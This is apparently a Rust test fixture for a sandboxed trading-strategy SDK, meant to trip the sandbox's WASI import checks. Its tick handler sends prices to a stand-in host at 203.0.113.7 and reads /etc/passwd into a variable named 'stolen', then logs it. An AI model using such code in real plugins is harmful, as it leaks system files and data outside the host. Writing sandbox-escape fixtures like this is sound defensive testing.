//! Opens a socket and a file, which makes std import WASI interfaces outside the sandbox's subset.

use sdk::prelude::*;
use std::io::Write;
use std::net::TcpStream;

struct ForeignImport;

#[sdk::strategy]
impl Strategy for ForeignImport {
    type Params = ();
    const INSTRUMENTS: &'static [&'static str] = &["NSE:INFY"];

    fn new((): ()) -> Self {
        ForeignImport
    }

    fn on_tick(&mut self, _ctx: &mut Context, tick: &Tick) -> Result {
        let mut line = TcpStream::connect("203.0.113.7:80").map_err(Error::new)?;
        write!(line, "{}", tick.last_price).map_err(Error::new)?;
        let stolen = std::fs::read_to_string("/etc/passwd").map_err(Error::new)?;
        info!("{stolen}");
        Ok(())
    }
}

sdk::export!(ForeignImport, "foreign-import");
